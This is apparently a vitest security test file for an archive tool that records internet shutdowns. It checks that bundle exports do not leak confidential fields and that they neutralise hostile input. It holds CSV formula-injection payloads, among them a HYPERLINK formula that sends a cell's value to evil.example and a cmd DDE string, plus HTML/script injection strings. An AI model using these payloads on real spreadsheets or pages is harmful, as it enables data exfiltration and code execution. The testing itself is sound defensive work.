/**
 * SECURITY (adversarial review of issue 19): the new fields — citations,
 * links, the order and the law, operators' statements, intervals,
 * interventions, external ids — and the new files (stop.csv, sources.csv,
 * interventions.csv), attacked as someone holding a bundle would attack
 * them, on real archives and real bundles.
 */
import { execFileSync } from 'node:child_process';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Bundle } from '../../../shared/model';
import { Archive } from '../archive';
import { overviewOf } from '../overview';
import { referencesTo } from '../references';
import { sampleIncident, sampleTestimony, temporaryFolder } from '../testing/fixtures';
import { exportBundle } from './export';
import { verifyBundle } from './verify';

let folder: { path: string; remove: () => Promise<void> };
beforeEach(async () => {
  folder = await temporaryFolder();
});
afterEach(() => folder.remove());

let made = 0;
const create = () => Archive.create(join(folder.path, `archive-${(made += 1)}`), { name: 'Aigerim', organization: 'Дәлел', passphrase: null, scryptCost: 2 ** 12 });

async function bagOf(archive: Archive, profile: 'legal' | 'public', only?: string[]) {
  const out = join(folder.path, `${profile}-${(made += 1)}.zip`);
  const { bundleId } = await exportBundle(archive, { out, profile, language: 'en', softwareVersion: 'test', ...(only ? { only } : {}) });
  const dir = join(folder.path, `bag-${(made += 1)}`);
  execFileSync('unzip', ['-q', out, '-d', dir]);
  const bag = join(dir, bundleId);
  const entries = await readdir(bag, { recursive: true, withFileTypes: true });
  const files = await Promise.all(
    entries.filter((entry) => entry.isFile()).map(async (entry) => ({ name: join(entry.parentPath, entry.name).slice(bag.length + 1), bytes: await readFile(join(entry.parentPath, entry.name)) })),
  );
  const read = (path: string) => files.find((file) => file.name === path)?.bytes.toString('utf8') ?? null;
  const bundle = JSON.parse(read('data/bundle.json')!) as Bundle;
  /** The files that hold a string, as UTF-8 bytes. */
  const holding = (secret: string) => files.filter((file) => file.bytes.includes(Buffer.from(secret))).map((file) => file.name);
  return { out, files, read, bundle, holding };
}

const secrets = {
  document: 'Order 77-SECRET of the akimat',
  actorName: 'Colonel Secretov',
  citedByName: 'Judge Hiddenova',
  operator: 'Hidden Telecom LLP',
  statement: 'We were told by KNB officer Zhaksylykov to switch off',
  intervalPlace: 'Qaragandy village 7',
  reference: 'CASE-2-1234-SECRET',
  interventionSummary: 'Filed by Aigul Nurova on behalf of her brother',
  locator: 'minute 3:20, the akim named Bolat',
  externalId: 'ROW-ORG-SECRET-42',
  testimony: 'I am the engineer who pulled the plug at the exchange',
};

/** A confidential incident with every new free-text field filled, a confidential intervention about it, and a testimony nobody may publish cited for the order. */
async function confidentialArchive() {
  const archive = await create();
  const unpublished = await archive.save({
    type: 'source',
    data: { ...sampleTestimony(), title: 'Engineer', content: secrets.testimony, consent: { ...sampleTestimony().consent!, publishAnonymous: false } },
  });
  const letter = await archive.save({ type: 'source', data: { kind: 'document', title: 'Letter of the akimat', content: 'Order 12.', url: 'https://example.org/letter' } });
  const other = await archive.save({ type: 'incident', data: sampleIncident({ title: 'Atyrau, 6 January' }) });
  const incident = await archive.save({
    type: 'incident',
    data: sampleIncident({
      confidential: true,
      externalId: secrets.externalId,
      sources: [unpublished.recordId, letter.recordId],
      startedAt: { at: '2022-01-05T19:00+06:00', precision: 'minute' },
      endedAt: { at: '2022-01-07T07:00+06:00', precision: 'minute' },
      intervals: [{ start: { at: '2022-01-05T19:00+06:00', precision: 'minute' }, end: { at: '2022-01-06T07:00+06:00', precision: 'minute' }, areas: [{ place: secrets.intervalPlace }], operators: [secrets.operator] }],
      order: { orderedBy: [{ code: 'security_service', name: secrets.actorName }], implementedBy: [{ code: 'operator', name: secrets.operator }], document: secrets.document, published: 'no', courtReview: 'no', noticeToUsers: 'no' },
      legalCitations: [{ code: 'kz.communications.41-1.p1', citedBy: 'court', citedByName: secrets.citedByName }],
      operatorStatements: [{ operator: secrets.operator, statement: secrets.statement }],
      links: [{ kind: 'part_of', incident: other.recordId }],
      citations: [
        { field: 'order', source: unpublished.recordId, locator: secrets.locator },
        { field: 'legalCitations/0', source: letter.recordId, locator: secrets.locator },
        { field: 'operatorStatements/0', source: letter.recordId, locator: secrets.locator },
        { field: 'acknowledged', source: unpublished.recordId, locator: secrets.locator },
        { field: 'links/0', source: letter.recordId, locator: secrets.locator },
      ],
    }),
  });
  const intervention = await archive.save({
    type: 'intervention',
    data: {
      kind: 'court_case',
      title: 'Appeal against the shutdown',
      body: 'Specialised inter-district administrative court of Almaty',
      reference: secrets.reference,
      summary: secrets.interventionSummary,
      incidents: [incident.recordId, other.recordId],
      sources: [letter.recordId],
      confidential: true,
      externalId: secrets.externalId,
      citations: [{ field: 'reference', source: letter.recordId, locator: secrets.locator }],
    },
  });
  return { archive, ids: [unpublished, letter, other, incident, intervention].map((saved) => saved.recordId), unpublished: unpublished.recordId, incident: incident.recordId, other: other.recordId };
}

describe('a public bundle of a confidential incident with the new fields', () => {
  it('holds none of its free text, no withheld testimony, no real record id and no external id, in any file', async () => {
    const { archive, ids } = await confidentialArchive();
    const bag = await bagOf(archive, 'public');
    for (const [name, secret] of Object.entries(secrets)) expect(bag.holding(secret), name).toEqual([]);
    for (const id of ids) expect(bag.holding(id), id).toEqual([]);
    expect(bag.files.map((file) => file.name)).toEqual(expect.arrayContaining(['data/stop.csv', 'data/sources.csv', 'data/interventions.csv', 'data/incidents.csv']));
    const incident = bag.bundle.records.find((record) => record.data?.confidential === true && record.type === 'incident')!.data!;
    for (const field of ['order', 'legalCitations', 'operatorStatements', 'intervals', 'externalId']) expect(incident, field).not.toHaveProperty(field);
    // Only the citation of a field that travels, of a source that travels, without its locator.
    expect(incident.citations).toEqual([{ field: 'links/0', source: expect.any(String), stance: 'supports', locator: '' }]);
    expect((await verifyBundle(bag.out)).valid).toBe(true);
    await archive.close();
  });
});

describe('the UN draft of a legal bundle', () => {
  it('leaves out a confidential intervention\'s reference, as it leaves out a confidential incident\'s free text', async () => {
    const { archive } = await confidentialArchive();
    const bag = await bagOf(archive, 'legal');
    const draft = bag.read('data/un-communication.html')!;
    expect(draft).toContain('Specialised inter-district administrative court of Almaty');
    for (const secret of [secrets.reference, secrets.interventionSummary, secrets.document, secrets.citedByName, secrets.statement, secrets.actorName, secrets.operator, secrets.intervalPlace]) {
      expect(draft.includes(secret), secret).toBe(false);
    }
    // The report for the lawyer carries them all: a legal bundle withholds no free text.
    expect(bag.read('data/report.html')).toContain(secrets.reference);
    await archive.close();
  });
});

/** The cells of an RFC 4180 file (as incidents.csv is written: BOM, CRLF, double quotes). */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      rows.at(-1)!.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      rows.at(-1)!.push(cell);
      cell = '';
      rows.push([]);
      i += 1;
    } else cell += char;
  }
  return rows.filter((row) => row.length > 0);
}

/**
 * What a spreadsheet set to split on ";" (Excel in a Russian or Kazakh
 * locale opens a .csv so) takes for cells: each line split at every ";",
 * quotes and commas being no boundary there.
 */
const semicolonCells = (csv: string) => csv.replace(/^\uFEFF/, '').split(/\r\n|\r|\n|;/);

const formulaStart = /^[=+\-@\t\r]/;

describe('formula injection through the new CSVs', () => {
  async function hostileArchive() {
    const archive = await create();
    const source = await archive.save({ type: 'source', data: { kind: 'media_report', title: '=HYPERLINK("http://evil.example/?"&A1,"RFE/RL")', url: 'https://example.org/=1' } });
    const incident = await archive.save({
      type: 'incident',
      data: sampleIncident({
        title: '+1+cmd|\' /C calc\'!A0',
        summary: 'Almaty;=1+1',
        operators: ['@SUM(1+1)', 'Kcell;-2+3'],
        sources: [source.recordId],
        order: { orderedBy: [{ code: 'other', name: '=2+5' }], implementedBy: [], document: '-3+4' },
      }),
    });
    await archive.save({
      type: 'intervention',
      data: { kind: 'complaint', title: '=HYPERLINK("http://evil.example")', body: '@body', reference: '-12', summary: 'x;@SUM(1)\n=1+2\r\n "-3', incidents: [incident.recordId] },
    });
    return archive;
  }

  for (const profile of ['legal', 'public'] as const) {
    it(`no cell of a ${profile} bundle's CSVs begins as a formula`, async () => {
      const archive = await hostileArchive();
      const bag = await bagOf(archive, profile);
      for (const name of ['data/incidents.csv', 'data/effects.csv', 'data/sources.csv', 'data/stop.csv', 'data/interventions.csv']) {
        const csv = bag.read(name)!;
        expect(csv, name).not.toBeNull();
        for (const cell of cellsOf(csv).flat()) expect(formulaStart.test(cell), `${name}: ${cell}`).toBe(false);
      }
      await archive.close();
    });
  }

  it('no cell begins as a formula for a spreadsheet that splits on ";"', async () => {
    const archive = await hostileArchive();
    const bag = await bagOf(archive, 'legal');
    for (const name of ['data/incidents.csv', 'data/sources.csv', 'data/stop.csv', 'data/interventions.csv']) {
      for (const cell of semicolonCells(bag.read(name)!)) expect(formulaStart.test(cell.replace(/^[ "]*/, '')), `${name}: ${cell}`).toBe(false);
    }
    await archive.close();
  });
});

describe('hostile text in the new fields of the report and the UN draft', () => {
  const markup = '<img src=x onerror=alert(1)>';
  const rlo = '\u202Egnp.exe';
  it('is escaped, never markup, and a right-to-left override stays isolated', async () => {
    const archive = await create();
    const named = await archive.save({
      type: 'source',
      data: { ...sampleTestimony(), title: `Letter ${markup}`, consent: { ...sampleTestimony().consent!, lawyersNamed: true, unNamed: true } },
    });
    const incident = await archive.save({
      type: 'incident',
      data: sampleIncident({
        sources: [named.recordId],
        order: { orderedBy: [{ code: 'other', name: `</bdi><script>alert(1)</script>${rlo}` }], implementedBy: [{ code: 'operator', name: markup }], document: `${markup}${rlo}`, published: 'no' },
        legalCitations: [{ code: 'kz.communications.41-1.p1', citedBy: 'other', citedByName: `${markup}${rlo}` }],
        operatorStatements: [{ operator: `${markup}${rlo}`, statement: `</blockquote>${markup}${rlo}` }],
        intervals: [{ start: { at: '2022-01-05T19:00+06:00', precision: 'minute' }, areas: [{ place: `${markup}${rlo}` }], operators: [`${markup}${rlo}`] }],
        citations: [{ field: 'order', source: named.recordId, locator: `${markup}${rlo}` }],
      }),
    });
    await archive.save({
      type: 'intervention',
      data: { kind: 'un_communication', title: `${markup}${rlo}`, body: `${markup}${rlo}`, reference: `${markup}${rlo}`, summary: `${markup}${rlo}`, incidents: [incident.recordId] },
    });
    const bag = await bagOf(archive, 'legal');
    for (const name of ['data/report.html', 'data/un-communication.html']) {
      const page = bag.read(name)!;
      expect(page, name).not.toMatch(/<img|<script|<\/?blockquote>\s*<img/i);
      expect(page.split(rlo).length - 1, `${name}: the override is printed`).toBeGreaterThan(0);
      // Each override sits inside an element that isolates its direction.
      const loose = [...page.matchAll(/\u202E/g)].flatMap(({ index }) => {
        const before = page.slice(0, index);
        const open = Math.max(before.lastIndexOf('<bdi'), before.lastIndexOf('dir="auto"'), before.lastIndexOf('\u2068'));
        const closed = Math.max(before.lastIndexOf('</bdi>'), before.lastIndexOf('</div>'), before.lastIndexOf('\u2069'));
        return open > closed ? [] : [page.slice(Math.max(0, index - 100), index)];
      });
      expect(loose, name).toEqual([]);
    }
    await archive.close();
  });
});

describe('an internal bundle from a modified Dalel, whose links the archive would refuse', () => {
  it('imports without harm: a link to itself or to a source counts nothing, loops nowhere, and every bundle made from it verifies', async () => {
    const forger = await create();
    // What a modified program, or a hand-signed revision, could sign: the archive's own check bypassed.
    (forger as unknown as { danglingReferences: () => [] }).danglingReferences = () => [];
    const source = await forger.save({ type: 'source', data: { kind: 'media_report', title: 'RFE/RL', url: 'https://example.org/a' } });
    const x = await forger.save({ type: 'incident', data: sampleIncident({ title: 'X' }) });
    await forger.save({
      type: 'incident',
      recordId: x.recordId,
      parent: x.revisionId,
      data: sampleIncident({ title: 'X', links: [{ kind: 'same_as', incident: x.recordId }, { kind: 'part_of', incident: source.recordId }] }),
    });
    const y = await forger.save({
      type: 'incident',
      data: sampleIncident({
        title: 'Y',
        links: [{ kind: 'continues_as', incident: x.recordId }, { kind: 'same_as', incident: '00000000-0000-4000-8000-000000000000' }],
        // A source no bundle carries, cited for the acknowledgement.
        sources: ['11111111-1111-4111-8111-111111111111'],
        citations: [{ field: 'acknowledged', source: '11111111-1111-4111-8111-111111111111', locator: 'page 1' }],
      }),
    });
    await forger.save({ type: 'intervention', data: { kind: 'complaint', title: 'Complaint', body: 'Prosecutor', incidents: [source.recordId, y.recordId] } });
    const out = join(folder.path, `forged-${(made += 1)}.zip`);
    await exportBundle(forger, { out, profile: 'internal', language: 'en', softwareVersion: 'test' });
    expect((await verifyBundle(out)).valid).toBe(true);

    const organization = await create();
    const outcome = await organization.importBundle(out, { allowUntrusted: true });
    expect(outcome.imported?.kind).toBe('merged');
    // X and Y are one shutdown; the self-link and the link to a source add nothing.
    expect(overviewOf(organization, Date.parse('2022-02-01T00:00:00Z'))).toMatchObject({ incidents: 1, linkedRecords: 1 });
    expect(referencesTo(organization, x.recordId).map((reference) => reference.recordId)).toEqual([y.recordId]);
    expect(referencesTo(organization, source.recordId).map((reference) => reference.via).sort()).toEqual(['incident', 'link']);
    for (const profile of ['legal', 'public'] as const) {
      const bag = await bagOf(organization, profile);
      expect((await verifyBundle(bag.out)).valid, profile).toBe(true);
      expect(bag.holding('00000000-0000-4000-8000-000000000000'), profile).toEqual([]);
      if (profile === 'public') for (const id of [x.recordId, y.recordId, source.recordId]) expect(bag.holding(id), id).toEqual([]);
      expect(bag.read('data/stop.csv')!.split('\r\n').filter(Boolean)).toHaveLength(2);
      // The report cites no source it does not carry.
      expect(bag.read('data/report.html')).not.toContain('page 1');
    }
    // Editing the imported record: the archive's own rule holds, with a message, and nothing changes.
    const head = organization.getRecord(x.recordId).summary;
    await expect(
      organization.save({ type: 'incident', recordId: x.recordId, parent: head.headId, data: { ...head.data!, title: 'X edited' } as never }),
    ).rejects.toMatchObject({ code: 'invalidRecord' });
    const yHead = organization.getRecord(y.recordId).summary;
    await expect(
      organization.save({ type: 'incident', recordId: y.recordId, parent: yHead.headId, data: { ...yHead.data!, title: 'Y edited' } as never }),
    ).rejects.toMatchObject({ code: 'invalidRecord' });
    expect(organization.getRecord(x.recordId).summary.headId).toBe(head.headId);
    for (const archive of [forger, organization]) await archive.close();
  });
});

describe('a citation of one entry of a list an export shortens', () => {
  it('still names the entry it was made for, or is left out', async () => {
    const archive = await create();
    const source = await archive.save({ type: 'source', data: { kind: 'media_report', title: 'RFE/RL', url: 'https://example.org/a' } });
    const other = await archive.save({ type: 'source', data: { kind: 'media_report', title: 'Vlast.kz', url: 'https://example.org/b' } });
    const hidden = await archive.save({ type: 'incident', data: sampleIncident({ title: 'Not chosen' }) });
    const shown = await archive.save({ type: 'incident', data: sampleIncident({ title: 'Chosen too' }) });
    const y = await archive.save({
      type: 'incident',
      data: sampleIncident({
        title: 'Y',
        sources: [source.recordId, other.recordId],
        links: [{ kind: 'part_of', incident: hidden.recordId }, { kind: 'same_as', incident: shown.recordId }],
        citations: [
          { field: 'links/0', source: source.recordId, stance: 'contradicts' },
          { field: 'links/1', source: other.recordId, stance: 'supports' },
        ],
      }),
    });
    for (const profile of ['legal', 'public'] as const) {
      const bag = await bagOf(archive, profile, [y.recordId, shown.recordId]);
      const record = bag.bundle.records.find((carried) => carried.data?.title === 'Y')!.data!;
      const links = record.links as { incident: string }[];
      const titleOf = (id: string) => bag.bundle.records.find((carried) => carried.recordId === id)?.data?.title;
      const sourceTitle = (id: string) => bag.bundle.records.find((carried) => carried.recordId === id)?.data?.title;
      const cited = (record.citations as { field: string; source: string; stance: string }[]).map((citation) => {
        const index = Number(citation.field.split('/')[1]);
        return { link: links[index] ? titleOf(links[index].incident) : null, source: sourceTitle(citation.source), stance: citation.stance };
      });
      // RFE/RL contradicted the link to the incident left out: it must not come to contradict the link to "Chosen too".
      // (A legal bundle shows a citation only as its author signed it: one whose index moved is left out there.)
      expect(cited, profile).toEqual(profile === 'public' ? [{ link: 'Chosen too', source: 'Vlast.kz', stance: 'supports' }] : []);
      expect((await verifyBundle(bag.out)).valid, profile).toBe(true);
    }
    await archive.close();
  });
});

describe('what the paths a legal bundle\'s signed head commits show', () => {
  it('the number of an incident\'s links, and that an intervention is about more incidents, never which', async () => {
    const archive = await create();
    const hidden = await archive.save({ type: 'incident', data: sampleIncident({ title: 'Not chosen' }) });
    const y = await archive.save({ type: 'incident', data: sampleIncident({ title: 'Y', links: [{ kind: 'part_of', incident: hidden.recordId }] }) });
    await archive.save({ type: 'intervention', data: { kind: 'complaint', title: 'Complaint', body: 'Prosecutor', incidents: [hidden.recordId, y.recordId] } });
    const bag = await bagOf(archive, 'legal', [y.recordId]);
    expect(bag.holding(hidden.recordId)).toEqual([]);
    const paths = (title: string) => {
      const head = bag.bundle.records.find((record) => record.data?.title === title)!.signedHead!;
      const shown = new Set(head.disclosures.map((disclosure) => disclosure.path));
      return Object.keys(head.revision.commitments).filter((path) => !shown.has(path) && /^\/data\/(links|incidents)\//.test(path));
    };
    // Known and documented (bundle-format.md, "What cannot be confirmed by guessing"): as with sources, the count shows.
    expect(paths('Y')).toEqual(['/data/links/0']);
    expect(paths('Complaint')).toEqual(['/data/incidents/0']);
    expect((await verifyBundle(bag.out)).valid).toBe(true);
    await archive.close();
  });
});

describe('a provision the collector named', () => {
  it('does not name the collector, the defender, in a public bundle or the UN draft; the lawyers\' report does', async () => {
    const archive = await create();
    await archive.save({
      type: 'incident',
      data: sampleIncident({
        legalCitations: [
          { code: 'kz.communications.41-1.p1', role: 'permits', citedBy: 'collector', citedByName: 'Aigerim Defenderova' },
          { code: 'kz.communications.41-1.p1', citedBy: 'operator', citedByName: 'Kcell' },
        ],
      }),
    });
    const published = await bagOf(archive, 'public');
    expect(published.holding('Aigerim Defenderova')).toEqual([]);
    expect(published.read('data/report.html')).toContain('Kcell');
    expect((await verifyBundle(published.out)).valid).toBe(true);
    const legal = await bagOf(archive, 'legal');
    expect(legal.read('data/un-communication.html')).not.toContain('Aigerim Defenderova');
    expect(legal.read('data/un-communication.html')).toContain('Kcell');
    expect(legal.read('data/report.html')).toContain('Aigerim Defenderova');
    await archive.close();
  });
});

describe('a public bundle changed after export (a verifier holds it to the rules it can see)', () => {
  it('is refused with an external id, a collector named, or a confidential record\'s locator or claim of a field it left out', async () => {
    const { archive } = await confidentialArchive();
    const bag = await bagOf(archive, 'public');
    expect(Bundle.safeParse(bag.bundle).success).toBe(true);
    const changed = (change: (records: Bundle['records']) => void) => {
      const copy = structuredClone(bag.bundle);
      change(copy.records);
      const parsed = Bundle.safeParse(copy);
      return parsed.success ? null : parsed.error.issues.map((issue) => issue.message);
    };
    const incident = (records: Bundle['records']) => records.find((record) => record.type === 'incident' && record.data?.confidential === true)!.data!;
    const open = (records: Bundle['records']) => records.find((record) => record.type === 'incident' && record.data?.confidential !== true)!.data!;
    expect(changed((records) => void (open(records).externalId = 'dalel:0f0e…'))).toEqual(['identifyingFieldNotAllowed']);
    expect(changed((records) => void (open(records).legalCitations = [{ code: 'kz.communications.41-1.p1', role: 'permits', citedBy: 'collector', citedByName: 'Aigerim' }]))).toEqual(['identifyingFieldNotAllowed']);
    expect(changed((records) => void ((incident(records).citations as { locator: string }[])[0]!.locator = 'minute 3'))).toEqual(['confidentialTextNotAllowed']);
    expect(changed((records) => void ((incident(records).citations as { field: string }[])[0]!.field = 'summary'))).toEqual(['confidentialTextNotAllowed']);
    await archive.close();
  });
});

// A spreadsheet row found again by `dalel:<record id>` must not make a confidential incident public
// (a sheet without a `confidential` column) nor drop what the sheet has no column for.
describe('a spreadsheet row that names a confidential incident by its dalel: id', () => {
  it('keeps it confidential, and keeps what the sheet has no column for', async () => {
    const archive = await create();
    const incident = await archive.save({
      type: 'incident',
      data: sampleIncident({ title: 'Zhanaozen', confidential: true, summary: 'The engineer Bolat told us', order: { orderedBy: [], implementedBy: [], document: secrets.document } }),
    });
    const path = join(folder.path, 'sheet.csv');
    await writeFile(path, ['externalId,title__en,startedAt,kinds,scope', `dalel:${incident.recordId},Zhanaozen (corrected),2022-01-05,Full network shutdown,national`].join('\r\n'));
    const result = await archive.importCsv({ path, dryRun: false, language: 'en' });
    expect(result.problems).toEqual([]);
    const data = archive.getRecord(incident.recordId).summary.data!;
    expect(data.confidential).toBe(true);
    expect(data.order).toBeDefined();
    const bag = await bagOf(archive, 'public');
    expect(bag.holding('Bolat')).toEqual([]);
    await archive.close();
  });
});
